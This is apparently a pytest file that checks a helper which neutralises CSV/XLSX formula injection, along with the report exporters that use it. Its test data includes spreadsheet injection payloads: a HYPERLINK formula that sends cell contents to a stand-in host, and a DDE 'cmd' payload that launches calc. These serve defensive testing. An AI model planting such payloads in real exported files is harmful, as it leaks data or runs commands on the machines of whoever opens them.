"""Spreadsheet cells that cannot run (OWASP CSV injection): the helper, and every CSV/XLSX writer using it."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from analytics.export import to_csv, to_xlsx
from analytics.query import Report, ReportQuery
from core.cells import FORMULA_STARTS, neutralise, neutralise_row

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == neutralise(text)  # an apostrophe starts nothing: stable


@pytest.mark.parametrize("value", ["bank-a", "北京", "", "'=already", " =1", "1-2", "a@b", 12, -5, -1.5,
                                   Decimal("-12.50"), date(2026, 1, 1), None, True])
def test_everything_else_is_left_alone(value: object) -> None:
    assert neutralise(value) is value


def test_the_starts_are_the_owasp_list() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    assert neutralise_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def _report() -> Report:
    query = ReportQuery(report="connect-rate", group_by=("team",))
    rows = [{"team": text, "attempts": -3 if i == 0 else i} for i, text in enumerate(HOSTILE)]
    return Report(name="connect-rate", title="t", columns=["team", "attempts"], rows=rows, totals={"attempts": 12},
                  query=query, late_cases=[{"external_id": "=cmd()", "days": -1}])


def test_report_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    text = to_csv(_report()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert rows[1][1] == "-3" and rows[-1] == ["total", "12"]


def test_report_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers() -> None:
    wb = load_workbook(io.BytesIO(to_xlsx(_report())))
    ws = wb["connect-rate"]
    teams = [ws.cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE))]
    # (XML reads a bare CR back as LF; the apostrophe is what matters)
    assert [c.value for c in teams] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert {c.data_type for c in teams} == {"s"}
    assert ws.cell(row=2, column=2).value == -3 and ws.cell(row=2, column=2).data_type == "n"
    late = wb["late cases"]
    assert late.cell(row=2, column=1).value == "'=cmd()" and late.cell(row=2, column=2).value == -1
